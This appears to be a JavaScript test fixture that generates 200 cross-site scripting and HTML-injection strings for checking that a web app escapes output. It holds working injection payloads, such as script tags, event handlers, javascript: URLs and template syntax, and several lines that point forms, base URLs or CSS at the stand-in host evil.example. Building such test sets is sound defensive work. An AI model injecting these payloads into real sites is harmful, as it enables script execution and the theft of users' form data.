// 200 texts that become markup, or run, wherever anything is not escaped. `ran` is set where one runs.

const CORES = [
  '<script>ran=1;alert(1)</script>',
  '<img src=x onerror=ran=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><b a='",
  '" autofocus onfocus=alert(1) x="',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<!--<img src=x>-->',
  '<a href=javascript:alert(1)>a</a>',
  '&lt;script&gt;',
  '&#60;img src=x&#62;',
  '<iframe srcdoc="<script>alert(1)">',
  '<math><mi xlink:href=javascript:alert(1)>',
  '</main><form action=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<style>*{background:url(//evil.example)}',
  '<svg><animate onbegin=alert(1)>',
  '{{ page.form_token }}{% include "x" %}',
  '</option><option selected>',
];
const WRAPS = ['{}', 'a{}b', '"{}', "'{}", '</b>{}', '{}"\'><', '[{}]', '{}<', '<{}', 'ñ{}💥'];

export const PAYLOADS = CORES.flatMap((core) => WRAPS.map((wrap) => wrap.replace('{}', () => core)));
